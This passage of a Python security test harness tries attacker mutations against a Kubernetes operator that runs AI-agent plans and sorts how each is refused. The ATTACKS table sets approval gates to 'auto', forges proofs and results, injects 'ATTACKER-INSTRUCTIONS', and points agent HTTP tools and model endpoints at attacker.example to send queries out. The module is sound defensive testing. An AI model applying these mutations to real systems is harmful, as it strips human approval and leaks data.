        lambda t: [{"op": "add", "path": "/spec/plan/steps/-", "value": _leak(t)}]
    ),
    "step-gate": _json_patch(
        lambda t: [
            {
                "op": "replace",
                "path": f"/spec/plan/steps/{_gated_index(t)}/approval",
                "value": "auto",
            }
        ]
    ),
    "step-shape": _json_patch(
        lambda t: [{"op": "remove", "path": f"/spec/plan/steps/{_gated_index(t)}"}]
    ),
    "step-limits": _json_patch(
        lambda t: [
            {
                "op": "add",
                "path": f"/spec/plan/steps/{_gated_index(t)}/timeoutSeconds",
                "value": 600,
            }
        ]
    ),
    "step-template": _merge({"stepTemplate": {"serviceAccountName": "default"}}),
    "run-policy": _merge({"policy": {"approverGroups": ["system:authenticated"]}}),
    "run-approvals": _approval,
    "run-carried": _merge(
        {
            "carriedResults": [
                {"step": GATED, "fromRun": "other", "argsHash": "0" * 64, "summary": "forged"}
            ]
        }
    ),
    "run-controls": _merge({"budget": {"maxAttempts": 40}, "suspend": False}),
    "agent-model": _merge({"agent": {"model": {"baseURL": "http://127.0.0.1:9/v1"}}}),
    "agent-tools": _json_patch(
        lambda t: [
            {
                "op": "replace",
                "path": "/spec/agent/tools/0/container/command",
                "value": _attack_command(t),
            }
        ]
    ),
    "agent-http-tools": _json_patch(
        lambda t: [
            {
                "op": "replace",
                "path": f"/spec/agent/tools/{_http_index(t)}/http/url",
                "value": "http://attacker.example/{query}",
            },
            {
                "op": "replace",
                "path": f"/spec/agent/tools/{_http_index(t)}/http/allowedHosts",
                "value": ["attacker.example"],
            },
        ]
    ),
    "agent-tool-choice": _merge({"agent": {"toolChoice": "none"}}),
    "agent-mcp-servers": _merge(
        {
            "agent": {
                "mcpServers": [
                    {"name": "elsewhere", "url": "http://127.0.0.1:9/mcp", "tools": [{"name": "x"}]}
                ]
            }
        }
    ),
    "child-run": _forged_child,
    "agent-instructions": _merge({"agent": {"instructions": "ATTACKER-INSTRUCTIONS"}}),
    "agent-limits": _merge({"agent": {"maxTurns": 3}}),
    "agent-resume": _merge({"agent": {"resumeFrom": {"run": "nowhere", "uid": NO_UID, "turn": 1}}}),
    "agent-ref": _agent_ref("attacker-agent"),
    "status-steps": _status,
    "status-agent": _status,
    "status-audit": _status,
    "status-run": _status,
    "job-create": _job_create,
    "job-proof": _job_patch({"metadata": {"annotations": {ANNOTATION_PROOF: "v1:forged"}}}),
    "job-labels": _job_patch({"metadata": {"labels": {LABEL_RUN_UID: None}}}),
    "job-spec": _job_patch({"spec": {"parallelism": 2}}),
    "job-finalizer": _job_finalizer,
    "pod-create": _pod_create,
    "pod-spec": _pod_delete,
    "pod-gate": _pod_gate,
    "pod-status": _pod_status,
    "pod-refusals": _event,
    "pod-doors": _pod_doors,
    "result-object": _result_object,
    "executor-result": _executor_result,
    "agent-context": _context,
    "agent-transcript": _transcript,
    "audit-record": _audit,
    "referenced-configmap": _referenced_configmap,
    "referenced-secret": _referenced_secret,
    "signing-key": _signing_key,
    "shard-leases": _shard_lease,
    "crd": _crd,
    "namespaces": _namespace,
    "agents": _definition(
        "Agent",
        {"instructions": "ATTACKER-INSTRUCTIONS", "modelConfigRef": {"name": AGENT_NAME}},
    ),
    "modelconfigs": _definition(
        "ModelConfig", {"baseURL": "http://attacker.example/v1", "name": "attacker-model"}
    ),
}
"""The change an attacker makes to each entry of the trust table."""

MIMICS: dict[str, Mutation] = {
    "run-type": lambda t, c: _custom(c, t, {"apiVersion": m.API_VERSION, "kind": m.KIND}),
    "run-metadata": _same_metadata,
    "run-identity": _same_identity,
    "run-labels": _same_labels,
    "run-shard-label": lambda t, c: _custom(
        c, t, {"metadata": {"labels": {LABEL_SHARD: run_shard_label(t.namespace, t.name, 3)}}}
    ),
    "run-owners": _same_owners,
    "run-goal": _same_spec("goal", "actor"),
    "step-container": _same_spec("plan"),
    "step-references": _same_spec("plan"),
    "step-gate": _same_spec("plan"),
    "step-shape": _same_spec("plan"),
    "step-limits": _same_spec("plan"),
    "step-template": _same_spec("stepTemplate"),
    "run-policy": _same_spec("policy"),
    "run-approvals": _approvers_approval,
    "run-carried": _same_spec("carriedResults"),
    "run-controls": _same_spec("suspend", "cancel", "budget", "retention"),
    "agent-model": _same_spec("agent"),
    "agent-tools": _same_spec("agent"),
    "agent-http-tools": _same_spec("agent"),
    "agent-tool-choice": _same_spec("agent"),
    "agent-mcp-servers": _same_spec("agent"),
    "child-run": _mimic_child,
    "agent-instructions": _same_spec("agent"),
    "agent-limits": _same_spec("agent"),
    "agent-resume": _same_spec("agent"),
    "agent-ref": _agent_ref(AGENT_NAME),
    "status-steps": _same_status,
    "status-agent": _same_status,
    "status-audit": _same_status,
    "status-run": _same_status,
    "job-create": _exact_job,
    "job-proof": _job_same(
        lambda job: {
            "metadata": {
                "annotations": {
                    ANNOTATION_PROOF: (job.metadata.annotations or {}).get(ANNOTATION_PROOF)
                }
            }
        }
    ),
    "job-labels": _job_same(
        lambda job: {
            "metadata": {
                "labels": job.metadata.labels,
                "ownerReferences": [
                    {
                        "apiVersion": o.api_version,
                        "kind": o.kind,
                        "name": o.name,
                        "uid": o.uid,
                        "controller": o.controller,
                        "blockOwnerDeletion": o.block_owner_deletion,
                    }
                    for o in job.metadata.owner_references or []
                ],
            }
        }
    ),
    "job-spec": _job_same(lambda job: {"spec": {"parallelism": job.spec.parallelism}}),
    "job-finalizer": _job_recreate,
    "pod-create": _exact_pod,
    "pod-spec": _pod_labels_again,
    "pod-gate": ATTACKS["pod-gate"],
    "pod-status": _kubelets_status,
    "pod-refusals": ATTACKS["pod-refusals"],
    "pod-doors": ATTACKS["pod-doors"],
    "result-object": _runner_result,
    "executor-result": ATTACKS["executor-result"],
    "agent-context": ATTACKS["agent-context"],
    "agent-transcript": ATTACKS["agent-transcript"],
    "audit-record": _same_audit,
    "referenced-configmap": lambda t, c: c.core.patch_namespaced_config_map(
        REFERENCED, t.namespace, {"data": {"value": GENUINE}}
    ),
    "referenced-secret": lambda t, c: c.core.patch_namespaced_secret(
        REFERENCED if t.kind == "plan" else API_KEY_SECRET,
        t.namespace,
        {"stringData": {"value": SECRET_VALUE}},
    ),
    "signing-key": ATTACKS["signing-key"],
    "shard-leases": ATTACKS["shard-leases"],
    "crd": _same_crd,
    "namespaces": _same_namespace,
    # What the namespace's admins would define (docs/agents.md's example), made first.
    "agents": _definition(
        "Agent", {"instructions": "Sort the ticket.", "modelConfigRef": {"name": AGENT_NAME}}
    ),
    "modelconfigs": _definition(
        "ModelConfig", {"baseURL": "http://127.0.0.1:8000/v1", "name": "small-model"}
    ),
}
"""The mimic of each entry: the legitimate writer's exact object or value. Where it is the
change itself (the change already writes what that writer writes, or a namespace user cannot
know it: the signing key, a Lease in the operator's namespace), the same function: a case of
each kind on one run is made once (:func:`attack_of`)."""


def attack_of(case: Case) -> Mutation:
    return (MIMICS if case.kind is Attack.MIMIC else ATTACKS)[case.entry.id]


def _own_mimic(case: Case) -> bool:
    return case.kind is Attack.MIMIC and attack_of(case) is not ATTACKS.get(case.entry.id)


ISOLATED = frozenset({"job-spec", "result-object"})
"""Entries whose unaffected changes get a run of their own rather than the shared one: a second
pod of the step's Job would confound the others' check that the step ran once, and a changed
input that the running attempt no longer reads fails the retry that the shared run's deleted
pod (``pod-spec``) brings, closed (ResultTampered), which the others' check would take for
their own outcome. (Their mimics write what is there again, or go to runs of another kind.)"""


def kind_of(case: Case) -> str:
    """The kind of run (:data:`KINDS`) a case is made on. The mimics that need a writer of
    their own go to runs that have one, where their actor may write at all: a sub-agent's
    child to a ``subagent`` run, the step runner's result object to a ``large`` run, turn 1's
    result object before the executor stores it to an ``executor`` run."""
    refused = case.expect.outcome is Outcome.REFUSED_RBAC
    if not refused:
        if case.kind is Attack.MIMIC and case.entry.id == "child-run":
            return "subagent"
        if case.kind is Attack.MIMIC and case.entry.id == "result-object":
            return "large"
        if case.entry.id == "executor-result" and case.phase is Phase.PENDING:
            return "executor"
    return "agent" if case.entry.agent else "plan"


def bundle_of(case: Case) -> str:
    """Which run a case's attack is made on: ``shared-<actor>`` (every attack that should
    change nothing, refused or not: made one after the other on one run; the runs-only
    actor's on the edit actor's; on a run of a kind few cases use, every actor's on one),
    ``applies-<actor>``, or one run of its own (a mimic of its own apart from the change)."""
    expect = case.expect
    alone = (
        case.kind is Attack.CHANGE
        and case.entry.id in ISOLATED
        and expect.outcome is Outcome.UNAFFECTED
    )
    if expect.alternative is None and not alone:
        shared = Actor.EDIT.value if case.actor is Actor.RUNS_ONLY else case.actor.value
        if kind_of(case) not in ("plan", "agent"):
            shared = "any"
        if expect.outcome in (Outcome.UNAFFECTED, Outcome.REFUSED_RBAC, Outcome.REFUSED_API):
            return f"shared-{shared}"
        if expect.outcome is Outcome.APPLIES:
            return f"applies-{case.actor}"
    mimic = "mimic-" if _own_mimic(case) else ""
    return f"{case.entry.id}-{mimic}{case.actor}"


LAST = ("step-shape", "pod-spec", "job-finalizer")
"""Changes that remove the step from the plan, or delete its pods or its Job: made after the
others on a shared run, each after its mimic."""


def in_order(cases: Iterable[Case]) -> list[Case]:
    """A bundle's cases in the order they are made: those of :data:`LAST` at the end."""
    refused = (Outcome.REFUSED_RBAC, Outcome.REFUSED_API)

    def order(c: Case) -> tuple[int, bool, bool]:
        last = LAST.index(c.entry.id) if c.entry.id in LAST else -1
        # An entry's mimic before its change (the mimic writes what is there again, or makes
        # the Job again, which the change then deletes); its refused attacks first.
        return last, c.kind is Attack.CHANGE, c.expect.outcome not in refused

    return sorted(cases, key=order)


def refusal(error: ApiException) -> Outcome:
    """What refused a change: RBAC (403, "cannot <verb> resource"), else the API server."""
    body = str(error.body or "")
    if error.status == 403 and "cannot " in body and "admission" not in body.lower():
        return Outcome.REFUSED_RBAC
    return Outcome.REFUSED_API


def planned(table: Iterable[trust.Entry] = trust.TABLE) -> dict[tuple[Phase, str, str], list[Case]]:
    """The cases to try, by (phase, kind of run, bundle); not applicable ones left out."""
    found: dict[tuple[Phase, str, str], list[Case]] = {}
    for case in trust.cases(tuple(table)):
        if case.expect.outcome is Outcome.NOT_APPLICABLE:
            continue
        key = (case.phase, kind_of(case), bundle_of(case))
        found.setdefault(key, []).append(case)
    return {key: in_order(cases) for key, cases in found.items()}


def phase_label(phase: Phase) -> str:
    return phase.name.lower()[:4]


def status_phase(run: Run) -> str | None:
    found = status_of(run).get("phase")
    return str(found) if found is not None else None
